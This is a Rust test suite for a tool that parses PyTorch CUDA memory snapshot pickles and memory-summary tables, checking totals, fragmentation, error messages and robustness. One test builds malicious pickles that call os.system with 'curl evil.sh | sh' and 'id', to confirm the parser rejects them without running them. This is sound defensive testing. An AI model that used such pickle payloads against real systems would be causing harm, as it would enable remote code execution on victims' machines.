use super::*;

fn fixture(name: &str) -> Vec<u8> {
    let path =
        everybyte_test_support::fixture(env!("CARGO_MANIFEST_DIR"), &format!("snapshots/{name}"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A small pickle writer for tests (protocol 4 opcodes, no memo, no framing), so that the
/// hand-built snapshots need no Python.
fn dump(v: &Value) -> Vec<u8> {
    fn put(v: &Value, out: &mut Vec<u8>) {
        match v {
            Value::None => out.push(b'N'),
            Value::Bool(true) => out.push(0x88),
            Value::Bool(false) => out.push(0x89),
            Value::Int(i) => {
                out.extend_from_slice(&[0x8a, 8]);
                out.extend_from_slice(&i.to_le_bytes());
            }
            Value::Str(s) => {
                out.push(b'X');
                out.extend_from_slice(&u32::try_from(s.len()).unwrap().to_le_bytes());
                out.extend_from_slice(s.as_bytes());
            }
            Value::List(items) => {
                out.extend_from_slice(b"](");
                for i in items {
                    put(i, out);
                }
                out.push(b'e');
            }
            Value::Tuple(items) => {
                out.push(b'(');
                for i in items {
                    put(i, out);
                }
                out.push(b't');
            }
            Value::Dict(pairs) => {
                out.extend_from_slice(b"}(");
                for (k, v) in pairs {
                    put(k, out);
                    put(v, out);
                }
                out.push(b'u');
            }
            Value::Global { module, name } => {
                out.push(b'c');
                out.extend_from_slice(format!("{module}\n{name}\n").as_bytes());
            }
            Value::Call { callable, args } => {
                put(callable, out);
                put(args, out);
                out.push(b'R');
            }
            other => panic!("the test writer does not write {other:?}"),
        }
    }
    let mut out = vec![0x80, 4];
    put(v, &mut out);
    out.push(b'.');
    out
}

fn s(text: &str) -> Value {
    Value::Str(text.to_string())
}

fn int(i: i64) -> Value {
    Value::Int(i)
}

fn d(pairs: Vec<(&str, Value)>) -> Value {
    Value::Dict(pairs.into_iter().map(|(k, v)| (s(k), v)).collect())
}

fn frame(file: &str, line: i64, name: &str) -> Value {
    d(vec![
        ("filename", s(file)),
        ("line", int(line)),
        ("name", s(name)),
    ])
}

fn block(address: i64, size: i64, state: &str, frames: Vec<Value>) -> Value {
    d(vec![
        ("address", int(address)),
        ("size", int(size)),
        ("requested_size", int(size - 8)),
        ("state", s(state)),
        ("frames", Value::List(frames)),
    ])
}

fn segment(address: i64, kind: &str, blocks: Vec<Value>) -> Value {
    let total: i64 = blocks
        .iter()
        .map(|b| b.get("size").and_then(Value::as_i64).unwrap_or(0))
        .sum();
    d(vec![
        ("device", int(0)),
        ("address", int(address)),
        ("total_size", int(total)),
        ("stream", int(0)),
        ("segment_type", s(kind)),
        ("blocks", Value::List(blocks)),
    ])
}

fn snapshot(segments: Vec<Value>) -> Vec<u8> {
    dump(&d(vec![
        ("segments", Value::List(segments)),
        ("device_traces", Value::List(vec![Value::List(vec![])])),
        (
            "allocator_settings",
            d(vec![
                ("expandable_segments", Value::Bool(false)),
                ("max_split_size", int(-1)),
            ]),
        ),
        ("external_annotations", Value::List(vec![])),
    ]))
}

const MIB: i64 = 1 << 20;

#[test]
fn forward_fixture_totals() {
    let r = read_snapshot(&fixture("ctx128_forward.pickle")).unwrap();
    // Expected numbers computed independently in Python: `s = pickle.load(f)`, then sums over
    // `s['segments']` (total_size; block sizes by state; requested_size of active_allocated
    // blocks; the largest inactive block), which also equal each segment's own
    // `allocated_size`/`active_size`; sites grouped by the same frame rule re-implemented in Python.
    let t = &r.totals;
    assert_eq!(t.reserved, 19_667_091_456);
    assert_eq!(t.allocated, 19_498_420_224);
    assert_eq!(t.active, 19_498_420_224);
    assert_eq!(t.requested, 19_352_504_320);
    assert_eq!(t.inactive, 168_671_232);
    assert_eq!(t.inactive_split, 168_671_232);
    assert_eq!(t.largest_free, 4_194_304);
    assert!((t.fragmentation - 0.975_133_258_053_157_5).abs() < 1e-12);
    assert_eq!((t.segments, t.blocks), (516, 1276));
    assert_eq!(r.segments_by_type["large"], 506);
    assert_eq!(r.segments_by_type["small"], 10);
    assert_eq!(r.trace_entries, 4657);
    assert_eq!(r.expandable_segments, Some(false));
    assert_eq!(r.max_split_size, Some(-1));
    assert_eq!(r.top_sites.len(), 10);
    assert_eq!(r.top_sites[0].site, "<no stack recorded>");
    assert_eq!(
        (r.top_sites[0].bytes, r.top_sites[0].blocks),
        (13_763_491_840, 324)
    );
    assert_eq!(
        r.top_sites[1].site,
        "/home/c-kaitwang/assignment1/cs336_basics/transformer.py:22 forward"
    );
    assert_eq!(
        (r.top_sites[1].bytes, r.top_sites[1].blocks),
        (1_396_703_232, 66)
    );
    // The segment map covers each segment exactly, blocks back to back.
    for seg in r.segment_map() {
        let mut at = 0;
        for &(offset, size, _) in &seg.blocks {
            assert_eq!(offset, at);
            at += size;
        }
        assert_eq!(at, seg.total);
    }
}

#[test]
fn fullstep_fixture_totals() {
    let r = read_snapshot(&fixture("ctx128_fullstep.pickle")).unwrap();
    // Computed in Python the same way as for the forward fixture.
    let t = &r.totals;
    assert_eq!(t.reserved, 61_111_009_280);
    assert_eq!(t.allocated, 54_873_829_888);
    assert_eq!(t.active, 54_873_829_888);
    assert_eq!(t.requested, 54_597_857_284);
    assert_eq!(t.inactive, 6_237_179_392);
    assert_eq!(t.inactive_split, 174_312_960);
    assert_eq!(t.largest_free, 104_857_600);
    assert!((t.fragmentation - 0.983_188_298_201_829_3).abs() < 1e-12);
    assert_eq!((t.segments, t.blocks), (1010, 1525));
    assert_eq!(r.segments_by_type["large"], 1000);
    assert_eq!(r.segments_by_type["small"], 10);
    assert_eq!(r.trace_entries, 19_342);
    assert_eq!(r.top_sites.len(), 8);
    assert_eq!(
        r.top_sites[2].site,
        "/home/c-kaitwang/assignment1/cs336_basics/optimizers.py:82 step"
    );
    assert_eq!(
        (r.top_sites[2].bytes, r.top_sites[2].blocks),
        (13_630_744_576, 291)
    );
    // A C++-only stack (the autograd thread) is named by its first non-dispatch frame.
    assert!(
        r.top_sites[1]
            .site
            .starts_with("VariableType_3.cpp:0 torch::autograd::VariableType::"),
        "{}",
        r.top_sites[1].site
    );

    let text = r.render_text();
    assert!(
        text.contains("1010 segments (1000 large, 10 small), 1525 blocks"),
        "{text}"
    );
    assert!(text.contains("reserved          56.91 GiB"), "{text}");
    assert!(text.contains("allocated         51.11 GiB"), "{text}");
    assert!(text.contains("fragmentation         98.3%"), "{text}");

    let json = serde_json::to_value(&r).unwrap();
    assert_eq!(json["totals"]["reserved"], 61_111_009_280_u64);
    assert_eq!(json["segments"][0]["block_count"], 1);
    assert!(json["segments"][0].get("blocks").is_none());
}

#[test]
fn no_free_memory() {
    let frames = vec![
        frame("??", 0, "torch::unwind::unwind()"),
        frame(
            "/venv/lib/python3.12/site-packages/torch/nn/functional.py",
            10,
            "linear",
        ),
        frame("/home/me/train.py", 42, "step"),
    ];
    let bytes = snapshot(vec![segment(
        1 << 30,
        "large",
        vec![
            block(1 << 30, 2 * MIB, "active_allocated", frames.clone()),
            block((1 << 30) + 2 * MIB, 2 * MIB, "active_pending_free", frames),
        ],
    )]);
    let r = read_snapshot(&bytes).unwrap();
    let t = &r.totals;
    assert_eq!(
        (t.reserved, t.allocated, t.active),
        (4 << 20, 2 << 20, 4 << 20)
    );
    assert_eq!((t.inactive, t.largest_free, t.fragmentation), (0, 0, 0.0));
    assert_eq!(t.requested, (2 << 20) - 8);
    assert_eq!(
        r.top_sites,
        vec![AllocationSite {
            site: "/home/me/train.py:42 step".to_string(),
            bytes: 4 << 20,
            blocks: 2
        }]
    );
    assert_eq!(
        r.segment_map(),
        vec![SegmentView {
            address: 1 << 30,
            total: 4 << 20,
            blocks: vec![
                (0, 2 << 20, BlockState::ActiveAllocated),
                (2 << 20, 2 << 20, BlockState::ActivePendingFree)
            ]
        }]
    );
}

#[test]
fn heavy_fragmentation() {
    // Ten 20 MiB segments, each with a 2 MiB tensor left between two 9 MiB free blocks.
    let segs = (0..10)
        .map(|i| {
            let base = (i + 1) << 32;
            segment(
                base,
                "large",
                vec![
                    block(base, 9 * MIB, "inactive", vec![]),
                    block(base + 9 * MIB, 2 * MIB, "active_allocated", vec![]),
                    block(base + 11 * MIB, 9 * MIB, "inactive", vec![]),
                ],
            )
        })
        .collect();
    let r = read_snapshot(&snapshot(segs)).unwrap();
    let t = &r.totals;
    assert_eq!(t.reserved, 200 << 20);
    assert_eq!(t.allocated, 20 << 20);
    assert_eq!(t.inactive, 180 << 20);
    assert_eq!(t.inactive_split, 180 << 20);
    assert_eq!(t.largest_free, 9 << 20);
    assert!((t.fragmentation - 0.95).abs() < 1e-12);
    assert_eq!(r.top_sites[0].site, "<no stack recorded>");
    assert_eq!(
        r.segment_map()[3].blocks[2],
        (11 << 20, 9 << 20, BlockState::Inactive)
    );
}

#[test]
fn empty_segments_list() {
    let r = read_snapshot(&snapshot(vec![])).unwrap();
    assert_eq!(r.totals, Totals::default());
    assert!(r.top_sites.is_empty() && r.segment_map().is_empty());
    assert!(r.render_text().contains("0 segments (none), 0 blocks"));
}

#[test]
fn old_list_form_with_history() {
    // torch.cuda.memory_snapshot() before 2.1: a bare list; blocks without addresses and with
    // `history` instead of `frames`.
    let history = Value::List(vec![d(vec![
        ("addr", int(0)),
        ("real_size", int(MIB)),
        ("frames", Value::List(vec![frame("model.py", 7, "forward")])),
    ])]);
    let seg = d(vec![
        ("address", int(4096 * MIB)),
        ("total_size", int(3 * MIB)),
        (
            "blocks",
            Value::List(vec![
                d(vec![
                    ("size", int(MIB)),
                    ("state", s("active_allocated")),
                    ("history", history),
                ]),
                d(vec![("size", int(2 * MIB)), ("state", s("inactive"))]),
            ]),
        ),
    ]);
    let r = read_snapshot(&dump(&Value::List(vec![seg]))).unwrap();
    assert_eq!(r.top_sites[0].site, "model.py:7 forward");
    assert_eq!(r.segments_by_type["unknown"], 1);
    assert_eq!(r.segment_map()[0].blocks[1].0, MIB as u64);
}

#[test]
fn missing_and_wrong_keys_are_named() {
    let e = read_snapshot(&dump(&d(vec![("device_traces", Value::List(vec![]))]))).unwrap_err();
    assert_eq!(e.to_string(), "snapshot: missing key `segments`");

    let no_size = segment(0, "large", vec![d(vec![("state", s("inactive"))])]);
    let e = read_snapshot(&snapshot(vec![no_size])).unwrap_err();
    assert_eq!(e.to_string(), "segments[0].blocks[0]: missing key `size`");

    let mut seg = segment(0, "small", vec![]);
    if let Value::Dict(pairs) = &mut seg {
        pairs.retain(|(k, _)| k.as_str() != Some("total_size"));
    }
    let e = read_snapshot(&snapshot(vec![segment(0, "large", vec![]), seg])).unwrap_err();
    assert_eq!(e.to_string(), "segments[1]: missing key `total_size`");

    let bad_state = segment(0, "large", vec![block(0, 512, "weird", vec![])]);
    let e = read_snapshot(&snapshot(vec![bad_state])).unwrap_err();
    assert_eq!(
        e.to_string(),
        "segments[0].blocks[0]: unknown block state `weird`"
    );

    let e = read_snapshot(&dump(&d(vec![("segments", s("nope"))]))).unwrap_err();
    assert_eq!(
        e.to_string(),
        "snapshot: `segments` is a str, expected a list"
    );

    let neg = segment(
        0,
        "large",
        vec![
            block(0, -5, "inactive", vec![]),
            block(0, 100, "inactive", vec![]),
        ],
    );
    let e = read_snapshot(&snapshot(vec![neg])).unwrap_err();
    assert_eq!(
        e.to_string(),
        "segments[0].blocks[0]: `size` is an int, expected a non-negative integer"
    );

    let e = read_snapshot(&dump(&int(3))).unwrap_err();
    assert!(matches!(e, SnapshotError::NotASnapshot("int")), "{e}");

    let e = read_snapshot(b"\x80\x04\xff.").unwrap_err();
    assert!(
        e.to_string()
            .starts_with("not a readable pickle: pickle byte 2"),
        "{e}"
    );
}

#[test]
fn malicious_reduce_inside_segments_is_inert_and_rejected() {
    let evil = Value::Call {
        callable: Box::new(Value::Global {
            module: "os".to_string(),
            name: "system".to_string(),
        }),
        args: Box::new(Value::Tuple(vec![s("curl evil.sh | sh")])),
    };
    let bytes = snapshot(vec![segment(0, "large", vec![]), evil]);
    let e = read_snapshot(&bytes).unwrap_err();
    assert_eq!(e.to_string(), "segments[1] is a call, not a dict");
    // The whole document reads as inert values.
    let v = crate::pickle::read_pickle(&bytes).unwrap();
    let segs = v.get("segments").and_then(Value::as_list).unwrap();
    assert!(matches!(&segs[1], Value::Call { callable, .. }
        if **callable == Value::Global { module: "os".into(), name: "system".into() }));

    // A REDUCE as the whole snapshot.
    let e = read_snapshot(b"cos\nsystem\n(S'id'\ntR.").unwrap_err();
    assert_eq!(
        e.to_string(),
        "the snapshot is a call, not a dict with `segments` or a list of segments"
    );
}

const SUMMARY: &str = "\
|===========================================================================|
|                  PyTorch CUDA memory summary, device ID 0                 |
|---------------------------------------------------------------------------|
|            CUDA OOMs: 1            |        cudaMalloc retries: 3         |
|===========================================================================|
|        Metric         | Cur Usage  | Peak Usage | Tot Alloc  | Tot Freed  |
|---------------------------------------------------------------------------|
| Allocated memory      |   1024 MiB |     23 GiB |  50000 GiB |  49999 GiB |
|       from large pool |   1000 MiB |     22 GiB |  49000 GiB |  48999 GiB |
|       from small pool |     24 MiB |      1 GiB |   1000 GiB |   1000 GiB |
|---------------------------------------------------------------------------|
| Active memory         |   1536 MiB |     23 GiB |  50000 GiB |  49999 GiB |
|---------------------------------------------------------------------------|
| Requested memory      |   1000 MiB |  22528 MiB |  49000 GiB |  48999 GiB |
|---------------------------------------------------------------------------|
| GPU reserved memory   |      2 GiB |     24 GiB |     30 GiB |     28 GiB |
|---------------------------------------------------------------------------|
| Non-releasable memory | 524288 KiB |   1536 MiB |  10000 GiB |  10000 GiB |
|---------------------------------------------------------------------------|
| Allocations           |     123    |     456    |   78901    |   78778    |
|===========================================================================|
";

#[test]
fn memory_summary_table() {
    let r = read_memory_summary(SUMMARY).unwrap();
    let (mib, gib) = (1u64 << 20, 1u64 << 30);
    assert_eq!(r.device, Some(0));
    assert_eq!((r.ooms, r.malloc_retries), (Some(1), Some(3)));
    assert_eq!(
        r.allocated,
        Usage {
            current: 1024 * mib,
            peak: 23 * gib
        }
    );
    assert_eq!(r.active.unwrap().current, 1536 * mib);
    assert_eq!(r.requested.unwrap().peak, 22_528 * mib);
    assert_eq!(
        r.reserved,
        Usage {
            current: 2 * gib,
            peak: 24 * gib
        }
    );
    assert_eq!(r.non_releasable.unwrap().current, 512 * mib);
    assert_eq!(r.cached(), gib);
}

#[test]
fn memory_summary_errors() {
    let e = read_memory_summary("hello").unwrap_err();
    assert!(e.to_string().contains("no `Allocated memory` row"), "{e}");
    let only_alloc = "| Allocated memory      |   1024 MiB |     23 GiB |";
    let e = read_memory_summary(only_alloc).unwrap_err();
    assert_eq!(
        e.to_string(),
        "memory summary: no `GPU reserved memory` row"
    );
    let bad = "| Allocated memory      |   lots     |     23 GiB |";
    let e = read_memory_summary(bad).unwrap_err();
    assert_eq!(
        e.to_string(),
        "memory summary: `Allocated memory` Cur Usage `lots` is not a size"
    );
}

#[test]
fn mutated_and_truncated_snapshots_never_panic() {
    let frames = vec![frame("/home/me/train.py", 42, "step")];
    let good = snapshot(vec![segment(
        1 << 30,
        "large",
        vec![
            block(1 << 30, 2 * MIB, "active_allocated", frames),
            block((1 << 30) + 2 * MIB, MIB, "inactive", vec![]),
        ],
    )]);
    assert!(read_snapshot(&good).is_ok());
    for cut in 0..good.len() {
        assert!(read_snapshot(&good[..cut]).is_err(), "cut at {cut}");
    }
    for at in 0..good.len() {
        for byte in [0x00, 0x28, 0x2e, 0x58, 0x68, 0x7f, 0x80, 0x8a, 0x93, 0xff] {
            let mut bad = good.clone();
            bad[at] = byte;
            // Any answer is fine; a panic or a hang is not.
            let _ = read_snapshot(&bad);
        }
    }
}
